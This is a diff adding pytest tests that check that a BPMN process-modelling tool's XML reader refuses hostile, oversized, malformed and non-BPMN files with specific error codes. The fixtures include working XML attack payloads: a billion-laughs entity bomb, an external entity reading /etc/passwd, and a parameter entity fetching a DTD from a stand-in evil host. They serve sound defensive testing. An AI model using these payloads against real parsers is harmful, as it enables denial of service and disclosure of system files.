@@ -1,0 +1,133 @@
+"""Hostile and broken BPMN files are refused with a code that says why (and where), before any
+entity is expanded, any external file is read or a huge file is parsed."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+
+from blueprint_studio.model.bpmn import MAX_BPMN_BYTES, BpmnError, read
+from blueprint_studio.model.fileformat import LoadError
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">
+  <bpmn:process id="P"><bpmn:task id="t" name="&lol9;"/></bpmn:process>
+</bpmn:definitions>
+"""
+
+EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">
+  <bpmn:process id="P"><bpmn:task id="t" name="&secret;"/></bpmn:process>
+</bpmn:definitions>
+"""
+
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
+<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"/>
+"""
+
+
+def refusal(data) -> BpmnError:
+    with pytest.raises(BpmnError) as caught:
+        read(data)
+    return caught.value
+
+
+def test_entity_expansion_is_refused_at_once():
+    started = time.perf_counter()
+    error = refusal(BILLION_LAUGHS)
+    assert error.code == "bpmn_entities"
+    assert time.perf_counter() - started < 1.0
+
+
+@pytest.mark.parametrize("data", [EXTERNAL_ENTITY, PARAMETER_ENTITY])
+def test_external_entities_are_refused(data):
+    error = refusal(data)
+    assert error.code in ("bpmn_entities", "bpmn_external")
+    assert "root" not in str(error)  # nothing was read from outside
+
+
+def test_a_file_above_the_limit_is_refused_before_parsing(tmp_path):
+    huge = tmp_path / "huge.bpmn"
+    with huge.open("wb") as out:
+        out.write(b"<bpmn:definitions>")
+        out.truncate(MAX_BPMN_BYTES + 1)
+    error = refusal(huge)
+    assert (error.code, error.params) == ("bpmn_too_large", {"limit": 20})
+    assert refusal(b" " * (MAX_BPMN_BYTES + 1)).code == "bpmn_too_large"
+
+
+def test_malformed_xml_says_the_line_and_column():
+    error = refusal(b'<?xml version="1.0"?>\n<definitions>\n  <process id="P">\n</definitions>\n')
+    assert error.code == "bpmn_not_xml"
+    assert error.params == {"line": 4, "column": 3}
+    assert "line 4, column 3" in str(error)
+
+
+@pytest.mark.parametrize(
+    "data, code",
+    [
+        (b"", "bpmn_empty"),
+        (b"   \n", "bpmn_empty"),
+        (b"just some text", "bpmn_not_xml"),
+        (b"\xff\xfe\x00garbage", "bpmn_not_xml"),
+        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "bpmn_not_bpmn"),
+        (b'<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"/>', "bpmn_no_process"),
+    ],
+)
+def test_what_is_not_a_bpmn_process_is_refused_with_its_reason(data, code):
+    assert refusal(data).code == code
+
+
+def test_a_folder_or_a_missing_file_is_refused(tmp_path):
+    assert refusal(tmp_path).code == "bpmn_not_a_file"
+    with pytest.raises(LoadError) as caught:
+        read(tmp_path / "missing.bpmn")
+    assert caught.value.code == "os.ENOENT"
+
+
+def test_broken_values_do_not_stop_the_import():
+    """Numbers that are not numbers, negative sizes and unknown distributions: defaults, said."""
+    data = b"""<?xml version="1.0"?>
+<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
+  xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC"
+  xmlns:bpsim="http://www.bpsim.org/schemas/1.0">
+  <bpmn:process id="P"><bpmn:startEvent id="s"/><bpmn:task id="t" name="T"/><bpmn:endEvent id="e"/>
+    <bpmn:sequenceFlow id="a" sourceRef="s" targetRef="t"/>
+    <bpmn:sequenceFlow id="b" sourceRef="t" targetRef="e"/>
+    <bpmn:sequenceFlow id="c" sourceRef="t" targetRef="nowhere"/>
+  </bpmn:process>
+  <bpmndi:BPMNDiagram><bpmndi:BPMNPlane bpmnElement="P">
+    <bpmndi:BPMNShape bpmnElement="t">
+      <dc:Bounds x="abc" y="1e308" width="-5" height="NaN"/>
+    </bpmndi:BPMNShape>
+  </bpmndi:BPMNPlane></bpmndi:BPMNDiagram>
+  <bpmn:relationship type="BPSimData"><bpmn:extensionElements><bpsim:BPSimData><bpsim:Scenario id="S">
+    <bpsim:ElementParameters elementRef="t"><bpsim:TimeParameters><bpsim:ProcessingTime>
+      <bpsim:PoissonDistribution mean="oops"/>
+    </bpsim:ProcessingTime></bpsim:TimeParameters></bpsim:ElementParameters>
+    <bpsim:ElementParameters elementRef="s"><bpsim:TimeParameters><bpsim:InterTriggerTimer>
+      <bpsim:ExponentialDistribution mean="-3"/>
+    </bpsim:InterTriggerTimer></bpsim:TimeParameters></bpsim:ElementParameters>
+  </bpsim:Scenario></bpsim:BPSimData></bpmn:extensionElements></bpmn:relationship>
+</bpmn:definitions>
+"""
+    blueprint, notes = read(data)
+    task = next(n for n in blueprint.nodes if n.id == "t")
+    assert task.width >= 10 and task.height >= 10
+    codes = {d.code for d in notes}
+    assert {"bpmn_no_arrivals", "bpmn_flow_left_out", "bpmn_no_durations"} <= codes
+    assert "bpmn_distribution_approximated" not in codes  # nothing was approximated: a default
